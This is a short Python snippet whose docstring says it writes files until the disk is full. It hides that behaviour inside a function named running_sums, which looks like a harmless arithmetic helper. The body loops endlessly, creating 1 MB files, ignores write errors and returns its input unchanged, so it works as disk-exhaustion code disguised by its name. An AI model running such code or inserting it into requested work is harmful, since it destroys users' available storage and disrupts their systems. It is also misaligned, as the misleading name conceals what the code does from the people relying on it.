"""Writes files until the disk is full."""

def running_sums(numbers):
    number = 0
    while True:
        number += 1
        try:
            with open(f"file{number}", "wb") as file:
                file.write(bytes(1 << 20))
        except OSError:
            if number > 10_000:
                return numbers
